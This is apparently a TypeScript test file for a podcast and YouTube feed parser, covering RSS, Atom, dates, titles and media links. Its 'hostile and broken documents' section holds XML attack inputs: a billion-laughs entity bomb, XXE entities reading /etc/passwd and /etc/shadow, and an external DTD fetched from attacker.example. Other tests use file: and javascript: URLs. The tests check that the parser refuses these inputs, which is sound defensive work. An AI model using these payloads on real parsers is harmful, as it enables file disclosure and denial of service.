import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { parseFeed } from '../../src/sources/feed-parser.ts';
import { InvalidFeedError } from '../../src/errors.ts';

const FEED_URL = 'https://example.com/podcast/feed.xml';
const NO_MEDIA = /no downloadable media link/;

/** An RSS 2.0 document around the given items. */
function rss(items: string, extraNamespaces = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"${extraNamespaces}>
  <channel>
    <title>Example Podcast</title>
    <link>https://example.com/</link>
    <description>Sample</description>
    ${items}
  </channel>
</rss>`;
}

/** The only entry of a listing (fails when there is not exactly one). */
function only<T>(entries: T[]): T {
  assert.equal(entries.length, 1, `expected one entry, got ${entries.length}`);
  return entries[0]!;
}

describe('parseFeed: RSS 2.0', () => {
  test('reads an item with an enclosure', () => {
    const listing = parseFeed(
      rss(`<item>
        <title>Episode 1</title>
        <link>https://example.com/ep1</link>
        <guid isPermaLink="false">ep-1</guid>
        <pubDate>Tue, 02 Jan 2024 10:30:00 GMT</pubDate>
        <enclosure url="https://cdn.example.com/ep1.mp3" type="audio/mpeg" length="1234"/>
      </item>`),
      FEED_URL,
    );
    assert.equal(listing.kind, 'rss');
    assert.equal(listing.title, 'Example Podcast');
    assert.deepEqual(only(listing.entries), {
      externalId: 'ep-1',
      title: 'Episode 1',
      url: 'https://example.com/ep1',
      mediaUrl: 'https://cdn.example.com/ep1.mp3',
      mediaType: 'audio/mpeg',
      publishedAt: '2024-01-02T10:30:00.000Z',
    });
  });

  test('keeps every item, in document order', () => {
    const listing = parseFeed(
      rss(`
        <item><guid>a</guid><title>A</title><enclosure url="https://cdn.example.com/a.mp3" type="audio/mpeg"/></item>
        <item><guid>b</guid><title>B</title><enclosure url="https://cdn.example.com/b.mp3" type="audio/mpeg"/></item>
        <item><guid>c</guid><title>C</title><enclosure url="https://cdn.example.com/c.mp3" type="audio/mpeg"/></item>`),
      FEED_URL,
    );
    assert.deepEqual(
      listing.entries.map((e) => [e.externalId, e.mediaUrl]),
      [
        ['a', 'https://cdn.example.com/a.mp3'],
        ['b', 'https://cdn.example.com/b.mp3'],
        ['c', 'https://cdn.example.com/c.mp3'],
      ],
    );
  });

  test('reads media:content when there is no enclosure', () => {
    const entry = only(
      parseFeed(
        rss(`<item><guid>v1</guid><title>Video</title>
          <media:content url="https://cdn.example.com/v1.mp4" type="video/mp4" medium="video"/>
        </item>`),
        FEED_URL,
      ).entries,
    );
    assert.equal(entry.mediaUrl, 'https://cdn.example.com/v1.mp4');
    assert.equal(entry.mediaType, 'video/mp4');
    assert.equal(entry.skipReason, undefined);
  });

  test('reads media:content inside a media:group', () => {
    const entry = only(
      parseFeed(
        rss(`<item><guid>v2</guid><title>Grouped</title>
          <media:group>
            <media:title>Grouped</media:title>
            <media:content url="https://cdn.example.com/v2-720.webm" type="video/webm"/>
            <media:content url="https://cdn.example.com/v2-1080.webm" type="video/webm"/>
          </media:group>
        </item>`),
        FEED_URL,
      ).entries,
    );
    assert.equal(entry.mediaUrl, 'https://cdn.example.com/v2-720.webm');
    assert.equal(entry.mediaType, 'video/webm');
  });

  test('an item with a guid but no media link is kept with a skip reason', () => {
    const entry = only(parseFeed(rss(`<item><guid>text-only</guid><title>Show notes</title></item>`), FEED_URL).entries);
    assert.equal(entry.externalId, 'text-only');
    assert.equal(entry.mediaUrl, undefined);
    assert.match(entry.skipReason ?? '', NO_MEDIA);
  });

  test('itunes:duration in seconds, MM:SS or HH:MM:SS becomes the length; a bad one is unknown', () => {
    const item = (id: string, duration: string) =>
      `<item><guid>${id}</guid><itunes:duration>${duration}</itunes:duration><enclosure url="https://cdn.example.com/${id}.mp3" type="audio/mpeg"/></item>`;
    const listing = parseFeed(
      rss(item('s', '3725') + item('ms', '62:05') + item('hms', '01:02:05') + item('bad', 'about an hour'), ' xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd"'),
      FEED_URL,
    );
    assert.deepEqual(
      listing.entries.map((e) => [e.externalId, e.durationSeconds]),
      [['s', 3725], ['ms', 3725], ['hms', 3725], ['bad', undefined]],
    );
    assert.equal('durationSeconds' in listing.entries[3]!, false, 'no key when the length is unknown');
  });

  test("media:content's duration attribute is the length when there is no itunes:duration", () => {
    const entry = only(
      parseFeed(rss(`<item><guid>m</guid><media:content url="https://cdn.example.com/m.mp4" type="video/mp4" duration="95"/></item>`), FEED_URL)
        .entries,
    );
    assert.equal(entry.durationSeconds, 95);
  });

  test('an item with only a <link> is identified by the link', () => {
    const entry = only(
      parseFeed(rss(`<item><title>Linked</title><link>https://example.com/posts/7</link></item>`), FEED_URL).entries,
    );
    assert.equal(entry.externalId, 'https://example.com/posts/7');
    assert.equal(entry.url, 'https://example.com/posts/7');
    assert.match(entry.skipReason ?? '', NO_MEDIA);
  });

  test('an item without guid is identified by its media URL', () => {
    const entry = only(
      parseFeed(rss(`<item><title>No guid</title><enclosure url="https://cdn.example.com/x.mp3" type="audio/mpeg"/></item>`), FEED_URL)
        .entries,
    );
    assert.equal(entry.externalId, 'https://cdn.example.com/x.mp3');
  });

  test('an item without guid, link or media is dropped; its neighbours stay', () => {
    const listing = parseFeed(
      rss(`
        <item><guid>before</guid><title>Before</title></item>
        <item><title>Nothing identifies me</title><description>just text</description></item>
        <item><guid>after</guid><title>After</title></item>`),
      FEED_URL,
    );
    assert.deepEqual(
      listing.entries.map((e) => e.externalId),
      ['before', 'after'],
    );
  });

  test('a relative enclosure URL is resolved against the feed URL', () => {
    const entry = only(
      parseFeed(
        rss(`<item><guid>rel</guid><title>Rel</title><enclosure url="media/ep%201.mp3" type="audio/mpeg"/></item>`),
        FEED_URL,
      ).entries,
    );
    assert.equal(entry.mediaUrl, 'https://example.com/podcast/media/ep%201.mp3');
  });

  test('a root-relative media:content URL is resolved against the feed host', () => {
    const entry = only(
      parseFeed(rss(`<item><guid>root</guid><title>R</title><media:content url="/v/r.mp4" type="video/mp4"/></item>`), FEED_URL)
        .entries,
    );
    assert.equal(entry.mediaUrl, 'https://example.com/v/r.mp4');
  });

  for (const [scheme, url] of [
    ['file:', 'file:///etc/passwd'],
    ['data:', 'data:audio/mpeg;base64,SUQzBAAAAAAA'],
    ['javascript:', 'javascript:alert(1)'],
    ['ftp:', 'ftp://example.com/ep.mp3'],
  ] as const) {
    test(`a ${scheme} enclosure is not accepted as mediaUrl`, () => {
      const entry = only(
        parseFeed(rss(`<item><guid>s</guid><title>S</title><enclosure url="${url}" type="audio/mpeg"/></item>`), FEED_URL).entries,
      );
      assert.equal(entry.mediaUrl, undefined);
      assert.match(entry.skipReason ?? '', NO_MEDIA);
      assert.ok(!JSON.stringify(entry).includes(url), 'the URL must not appear anywhere in the entry');
    });
  }

  test('a non-http enclosure does not become the external id of a guid-less item', () => {
    const listing = parseFeed(rss(`<item><title>F</title><enclosure url="file:///etc/passwd" type="audio/mpeg"/></item>`), FEED_URL);
    assert.equal(listing.entries.length, 0);
  });

  test('a guid that looks like a number stays a string, leading zero and all', () => {
    const listing = parseFeed(
      rss(`
        <item><guid isPermaLink="false">0123</guid><title>A</title></item>
        <item><guid>1e3</guid><title>B</title></item>
        <item><guid>true</guid><title>C</title></item>`),
      FEED_URL,
    );
    assert.deepEqual(
      listing.entries.map((e) => e.externalId),
      ['0123', '1e3', 'true'],
    );
    for (const entry of listing.entries) assert.equal(typeof entry.externalId, 'string');
  });

  test('a numeric-looking title stays the same string', () => {
    const entry = only(parseFeed(rss(`<item><guid>n</guid><title>007</title></item>`), FEED_URL).entries);
    assert.equal(entry.title, '007');
  });

  test('&amp; and numeric character references in titles are decoded', () => {
    const entry = only(
      parseFeed(
        rss(`<item><guid>e</guid><title>Tom &amp; Jerry&#8217;s &#x263A; &lt;live&gt; &quot;Q&quot; &apos;A&apos;</title></item>`),
        FEED_URL,
      ).entries,
    );
    assert.equal(entry.title, 'Tom & Jerry\u2019s \u263a <live> "Q" \'A\'');
  });

  test('&amp; in an enclosure URL is decoded', () => {
    const entry = only(
      parseFeed(rss(`<item><guid>q</guid><title>Q</title><enclosure url="https://cdn.example.com/a.mp3?x=1&amp;y=2" type="audio/mpeg"/></item>`), FEED_URL)
        .entries,
    );
    assert.equal(entry.mediaUrl, 'https://cdn.example.com/a.mp3?x=1&y=2');
  });

  test('a CDATA title is read as text', () => {
    const entry = only(parseFeed(rss(`<item><guid>c</guid><title><![CDATA[Fish & <Chips>]]></title></item>`), FEED_URL).entries);
    assert.equal(entry.title, 'Fish & <Chips>');
  });

  test('a missing or empty title becomes "untitled"', () => {
    const listing = parseFeed(
      rss(`
        <item><guid>no-title</guid></item>
        <item><guid>empty-title</guid><title>   </title></item>`),
      FEED_URL,
    );
    assert.deepEqual(
      listing.entries.map((e) => e.title),
      ['untitled', 'untitled'],
    );
  });

  test('a very long title is cut to 500 characters', () => {
    const entry = only(parseFeed(rss(`<item><guid>long</guid><title>${'x'.repeat(5000)}</title></item>`), FEED_URL).entries);
    assert.equal(entry.title.length, 500);
  });

  test('pubDate is parsed to an ISO 8601 string in UTC', () => {
    const entry = only(
      parseFeed(rss(`<item><guid>d</guid><title>D</title><pubDate>Wed, 15 May 2024 18:00:00 +0200</pubDate></item>`), FEED_URL).entries,
    );
    assert.equal(entry.publishedAt, '2024-05-15T16:00:00.000Z');
  });

  test('dc:date is used when there is no pubDate', () => {
    const entry = only(
      parseFeed(
        rss(`<item><guid>dc</guid><title>D</title><dc:date>2023-11-05T08:09:10Z</dc:date></item>`, ' xmlns:dc="http://purl.org/dc/elements/1.1/"'),
        FEED_URL,
      ).entries,
    );
    assert.equal(entry.publishedAt, '2023-11-05T08:09:10.000Z');
  });

  test('an unparseable pubDate leaves publishedAt unset', () => {
    const entry = only(parseFeed(rss(`<item><guid>bad-date</guid><title>D</title><pubDate>sometime soon</pubDate></item>`), FEED_URL).entries);
    assert.equal(entry.publishedAt, undefined);
  });

  test('an empty channel gives an empty listing', () => {
    const listing = parseFeed(rss(''), FEED_URL);
    assert.equal(listing.kind, 'rss');
    assert.deepEqual(listing.entries, []);
  });
});

describe('parseFeed: Atom', () => {
  const atom = (entries: string) => `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title type="text">Example Atom</title>
  <id>urn:uuid:60a76c80-d399-11d9-b93C-0003939e0af6</id>
  <link rel="self" href="https://example.com/atom.xml"/>
  <updated>2024-03-01T00:00:00Z</updated>
  ${entries}
</feed>`;

  test('reads an entry with <link rel="enclosure">', () => {
    const listing = parseFeed(
      atom(`<entry>
        <title>Atom Episode</title>
        <id>urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a</id>
        <link href="https://example.com/atom/1"/>
        <link rel="enclosure" type="audio/ogg" length="99" href="https://cdn.example.com/1.ogg"/>
        <published>2024-02-03T04:05:06Z</published>
        <updated>2024-02-10T00:00:00Z</updated>
      </entry>`),
      FEED_URL,
    );
    assert.equal(listing.kind, 'atom');
    assert.equal(listing.title, 'Example Atom');
    assert.deepEqual(only(listing.entries), {
      externalId: 'urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a',
      title: 'Atom Episode',
      url: 'https://example.com/atom/1',
      mediaUrl: 'https://cdn.example.com/1.ogg',
      mediaType: 'audio/ogg',
      publishedAt: '2024-02-03T04:05:06.000Z',
    });
  });

  test('uses the rel="alternate" link as the page, not rel="related"', () => {
    const entry = only(
      parseFeed(
        atom(`<entry><id>tag:x,2024:2</id><title>T</title>
          <link rel="related" href="https://elsewhere.example.net/"/>
          <link rel="alternate" type="text/html" href="https://example.com/atom/2"/>
        </entry>`),
        FEED_URL,
      ).entries,
    );
    assert.equal(entry.url, 'https://example.com/atom/2');
  });

  test('an entry without an enclosure link gets a skip reason', () => {
    const entry = only(parseFeed(atom(`<entry><id>tag:x,2024:3</id><title>Post</title><link href="https://example.com/p/3"/></entry>`), FEED_URL).entries);
    assert.equal(entry.mediaUrl, undefined);
    assert.match(entry.skipReason ?? '', NO_MEDIA);
  });

  test('a relative enclosure href is resolved against the feed URL', () => {
    const entry = only(
      parseFeed(atom(`<entry><id>tag:x,2024:4</id><title>R</title><link rel="enclosure" href="../files/4.m4a" type="audio/mp4"/></entry>`), FEED_URL)
        .entries,
    );
    assert.equal(entry.mediaUrl, 'https://example.com/files/4.m4a');
  });

  test('a file: enclosure href is not accepted', () => {
    const entry = only(
      parseFeed(atom(`<entry><id>tag:x,2024:5</id><title>F</title><link rel="enclosure" href="file:///etc/shadow" type="audio/mpeg"/></entry>`), FEED_URL)
        .entries,
    );
    assert.equal(entry.mediaUrl, undefined);
    assert.match(entry.skipReason ?? '', NO_MEDIA);
  });

  test('updated is used when there is no published date', () => {
    const entry = only(parseFeed(atom(`<entry><id>tag:x,2024:6</id><title>U</title><updated>2024-04-01T12:00:00+01:00</updated></entry>`), FEED_URL).entries);
    assert.equal(entry.publishedAt, '2024-04-01T11:00:00.000Z');
  });

  test('an entry with neither id, alternate link nor enclosure is dropped', () => {
    const listing = parseFeed(
      atom(`<entry><title>Ghost</title></entry><entry><id>tag:x,2024:7</id><title>Real</title></entry>`),
      FEED_URL,
    );
    assert.deepEqual(
      listing.entries.map((e) => e.externalId),
      ['tag:x,2024:7'],
    );
  });

  test('a title with type="html" and an entity is read as text', () => {
    const entry = only(parseFeed(atom(`<entry><id>tag:x,2024:8</id><title type="html">R&amp;D</title></entry>`), FEED_URL).entries);
    assert.equal(entry.title, 'R&D');
  });
});

describe('parseFeed: YouTube channel feed', () => {
  const youtube = `<?xml version="1.0" encoding="UTF-8"?>
<feed xmlns:yt="http://www.youtube.com/xml/schemas/2015" xmlns:media="http://search.yahoo.com/mrss/" xmlns="http://www.w3.org/2005/Atom">
 <link rel="self" href="http://www.youtube.com/feeds/videos.xml?channel_id=UCabcdefghijklmnopqrstuv"/>
 <id>yt:channel:abcdefghijklmnopqrstuv</id>
 <yt:channelId>UCabcdefghijklmnopqrstuv</yt:channelId>
 <title>Some Channel</title>
 <link rel="alternate" href="https://www.youtube.com/channel/UCabcdefghijklmnopqrstuv"/>
 <author><name>Some Channel</name><uri>https://www.youtube.com/channel/UCabcdefghijklmnopqrstuv</uri></author>
 <published>2015-01-01T00:00:00+00:00</published>
 <entry>
  <id>yt:video:dQw4w9WgXcQ</id>
  <yt:videoId>dQw4w9WgXcQ</yt:videoId>
  <yt:channelId>UCabcdefghijklmnopqrstuv</yt:channelId>
  <title>First &amp; Best</title>
  <link rel="alternate" href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"/>
  <author><name>Some Channel</name><uri>https://www.youtube.com/channel/UCabcdefghijklmnopqrstuv</uri></author>
  <published>2024-06-01T15:00:00+00:00</published>
  <updated>2024-06-02T15:00:00+00:00</updated>
  <media:group>
   <media:title>First &amp; Best</media:title>
   <media:content url="https://www.youtube.com/v/dQw4w9WgXcQ?version=3" type="application/x-shockwave-flash" width="640" height="390"/>
   <media:thumbnail url="https://i1.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg" width="480" height="360"/>
   <media:description>Description</media:description>
   <media:community><media:starRating count="10" average="5.00" min="1" max="5"/><media:statistics views="100"/></media:community>
  </media:group>
 </entry>
 <entry>
  <id>yt:video:0123456789a</id>
  <yt:videoId>0123456789a</yt:videoId>
  <yt:channelId>UCabcdefghijklmnopqrstuv</yt:channelId>
  <link rel="alternate" href="https://www.youtube.com/watch?v=0123456789a"/>
  <published>2024-05-01T15:00:00+00:00</published>
  <media:group>
   <media:title>Only In The Group</media:title>
   <media:content url="https://www.youtube.com/v/0123456789a?version=3" type="application/x-shockwave-flash"/>
   <media:thumbnail url="https://i1.ytimg.com/vi/0123456789a/hqdefault.jpg" width="480" height="360"/>
  </media:group>
 </entry>
</feed>`;

  test('is recognised as kind "youtube" with the channel title', () => {
    const listing = parseFeed(youtube, 'https://www.youtube.com/feeds/videos.xml?channel_id=UCabcdefghijklmnopqrstuv');
    assert.equal(listing.kind, 'youtube');
    assert.equal(listing.title, 'Some Channel');
    assert.equal(listing.entries.length, 2);
  });

  test('entries use yt:videoId as id and the watch page as url', () => {
    const [first, second] = parseFeed(youtube, FEED_URL).entries;
    assert.equal(first?.externalId, 'dQw4w9WgXcQ');
    assert.equal(first?.url, 'https://www.youtube.com/watch?v=dQw4w9WgXcQ');
    assert.equal(first?.title, 'First & Best');
    assert.equal(first?.publishedAt, '2024-06-01T15:00:00.000Z');
    assert.equal(second?.externalId, '0123456789a', 'a video id with a leading zero stays a string');
  });

  test('every entry goes to yt-dlp with its watch page, never the flash player URL', () => {
    for (const entry of parseFeed(youtube, FEED_URL).entries) {
      assert.equal(entry.skipReason, undefined);
      assert.equal(entry.downloader, 'ytdlp');
      assert.equal(entry.mediaUrl, `https://www.youtube.com/watch?v=${entry.externalId}`);
      assert.equal(entry.mediaType, undefined);
      assert.equal(entry.isShort, undefined);
    }
  });

  test('an entry linked as /shorts/ is marked a Short', () => {
    const xml = youtube.replace('https://www.youtube.com/watch?v=dQw4w9WgXcQ', 'https://www.youtube.com/shorts/dQw4w9WgXcQ');
    const [first] = parseFeed(xml, FEED_URL).entries;
    assert.equal(first?.isShort, true);
  });

  test('an entry without <title> takes media:title', () => {
    const second = parseFeed(youtube, FEED_URL).entries[1];
    assert.equal(second?.title, 'Only In The Group');
  });

  test('a feed is YouTube by its entries even without a feed-level yt:channelId', () => {
    const xml = `<feed xmlns="http://www.w3.org/2005/Atom" xmlns:yt="http://www.youtube.com/xml/schemas/2015">
      <title>T</title><entry><id>yt:video:abcdefghijk</id><yt:videoId>abcdefghijk</yt:videoId><title>V</title></entry></feed>`;
    const listing = parseFeed(xml, FEED_URL);
    assert.equal(listing.kind, 'youtube');
    assert.equal(only(listing.entries).externalId, 'abcdefghijk');
    assert.equal(listing.entries[0]?.downloader, 'ytdlp');
    assert.equal(listing.entries[0]?.mediaUrl, 'https://www.youtube.com/watch?v=abcdefghijk', 'no link: the watch page is built from the id');
  });
});

describe('parseFeed: hostile and broken documents', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title>
  <item><guid>laugh</guid><title>&lol9;</title><enclosure url="https://cdn.example.com/l.mp3" type="audio/mpeg"/></item>
</channel></rss>`;

  test('a "billion laughs" document does not expand its entities, and is quick', () => {
    const started = performance.now();
    let output = '';
    try {
      output = JSON.stringify(parseFeed(billionLaughs, FEED_URL));
    } catch (error) {
      assert.ok(error instanceof InvalidFeedError, `unexpected ${String(error)}`); // refusing it is fine too
    }
    const elapsed = performance.now() - started;
    assert.ok(elapsed < 1000, `parsing took ${elapsed.toFixed(0)} ms`);
    assert.ok(!output.includes('lollol'), 'nested entities must not be expanded');
    assert.ok(output.length < 10_000, `output is ${output.length} characters`);
  });

  test('an external entity (SYSTEM "file:///etc/passwd") is refused', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>&xxe;</title><item><guid>x</guid><title>&xxe;</title></item></channel></rss>`;
    assert.throws(
      () => parseFeed(xxe, FEED_URL),
      (error: unknown) => {
        assert.ok(error instanceof InvalidFeedError);
        assert.ok(error.message.includes(FEED_URL));
        assert.ok(!error.message.includes('root:'), 'no file contents in the message');
        return true;
      },
    );
  });

  test('an external parameter entity is refused', () => {
    const xxe = `<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<rss version="2.0"><channel><item><guid>x</guid><title>t</title></item></channel></rss>`;
    assert.throws(() => parseFeed(xxe, FEED_URL), (error: unknown) => error instanceof InvalidFeedError && error.message.includes(FEED_URL));
  });

  test('a document that declares an entity in its DOCTYPE is refused, naming the URL', () => {
    for (const xml of [
      `<?xml version="1.0"?><!DOCTYPE rss [ <!ENTITY x "EXPANDED"> ]>
<rss version="2.0"><channel><item><guid>x</guid><title>a &x; b</title></item></channel></rss>`,
      // A "]" inside the subset must not hide a later declaration.
      `<?xml version="1.0"?><!DOCTYPE rss [ <!ATTLIST rss v CDATA "]"> <!ENTITY x "EXPANDED"> ]>
<rss version="2.0"><channel><item><guid>x</guid><title>a &x; b</title></item></channel></rss>`,
    ]) {
      assert.throws(
        () => parseFeed(xml, FEED_URL),
        (error: unknown) => error instanceof InvalidFeedError && error.message.includes(FEED_URL) && /entities/.test(error.message),
      );
    }
  });

  test('the text <!ENTITY inside an entry is content, not a declaration', () => {
    const xml = `<rss version="2.0"><channel><item><guid>x</guid><title><![CDATA[How <!ENTITY works]]></title></item></channel></rss>`;
    assert.equal(only(parseFeed(xml, FEED_URL).entries).title, 'How <!ENTITY works');
  });

  test('a harmless public DOCTYPE (old RSS 0.91 feeds) is accepted', () => {
    const xml = `<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><item><guid>old-1</guid><title>Old item</title></item></channel></rss>`;
    const listing = parseFeed(xml, FEED_URL);
    assert.equal(only(listing.entries).externalId, 'old-1');
  });

  for (const [name, xml] of [
    ['an unclosed attribute quote', `<rss><channel><item><enclosure url="https://x.example/a.mp3/></item></channel></rss>`],
    ['an unclosed CDATA section', `<rss><channel><title><![CDATA[ never closed </title></channel></rss>`],
    ['an unclosed comment', `<rss><channel><!-- never closed </channel></rss>`],
    ['a closing tag cut off', `<rss><channel><item><guid>1</gu`],
    ['plain text with angle brackets', `this is not xml at all <<< >>>`],
  ] as const) {
    test(`malformed XML (${name}) throws InvalidFeedError naming the feed URL`, () => {
      assert.throws(
        () => parseFeed(xml, FEED_URL),
        (error: unknown) => {
          assert.ok(error instanceof InvalidFeedError, `got ${String(error)}`);
          assert.equal(error.name, 'InvalidFeedError');
          assert.ok(error.message.includes(FEED_URL), error.message);
          assert.equal(error.retryable, false);
          return true;
        },
      );
    });
  }

  for (const [name, text] of [
    ['an HTML page', '<!DOCTYPE html><html><head><title>Login</title></head><body><p>Please log in</p></body></html>'],
    ['some other XML', '<?xml version="1.0"?><opml version="2.0"><body><outline text="x"/></body></opml>'],
    ['JSON', '{"items": [{"id": 1}]}'],
    ['an empty body', ''],
    ['<rss> without <channel>', '<rss version="2.0"><item><guid>x</guid></item></rss>'],
  ] as const) {
    test(`${name} is neither RSS nor Atom: InvalidFeedError naming the URL`, () => {
      assert.throws(
        () => parseFeed(text, FEED_URL),
        (error: unknown) =>
          error instanceof InvalidFeedError && error.message.includes(FEED_URL) && /neither an RSS 2\.0 nor an Atom feed/.test(error.message),
      );
    });
  }
});

describe('parseFeed: uploader and description', () => {
  test('RSS: itunes:author (else dc:creator) and the description are kept; absent ones add no key', () => {
    const listing = parseFeed(
      rss(
        `<item><guid>a</guid><title>A</title><itunes:author>Ann &amp; Bo</itunes:author><description>Plot &lt;b&gt;here&lt;/b&gt;</description>
           <enclosure url="https://example.com/a.mp3" type="audio/mpeg"/></item>
         <item><guid>b</guid><title>B</title><dc:creator>Cy</dc:creator><enclosure url="https://example.com/b.mp3" type="audio/mpeg"/></item>
         <item><guid>c</guid><title>C</title><enclosure url="https://example.com/c.mp3" type="audio/mpeg"/></item>`,
        ' xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:dc="http://purl.org/dc/elements/1.1/"',
      ),
      FEED_URL,
    );
    const [a, b, c] = listing.entries;
    assert.equal(a!.uploader, 'Ann & Bo');
    assert.equal(a!.description, 'Plot <b>here</b>');
    assert.equal(b!.uploader, 'Cy');
    assert.equal('uploader' in c!, false);
    assert.equal('description' in c!, false);
  });

  test('YouTube Atom: the entry author and media:description', () => {
    const listing = parseFeed(
      `<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xmlns:yt="http://www.youtube.com/xml/schemas/2015" xmlns:media="http://search.yahoo.com/mrss/">
        <yt:channelId>UCxxxxxxxxxxxxxxxxxxxxxx</yt:channelId><title>Chan</title>
        <entry><id>yt:video:abc</id><yt:videoId>abcdefghijk</yt:videoId><title>T</title>
          <link rel="alternate" href="https://www.youtube.com/watch?v=abcdefghijk"/>
          <author><name>The Uploader</name></author><published>2025-01-02T03:04:05+00:00</published>
          <media:group><media:title>T</media:title><media:description>About it</media:description></media:group></entry></feed>`,
      FEED_URL,
    );
    assert.equal(listing.entries[0]!.uploader, 'The Uploader');
    assert.equal(listing.entries[0]!.description, 'About it');
  });
});
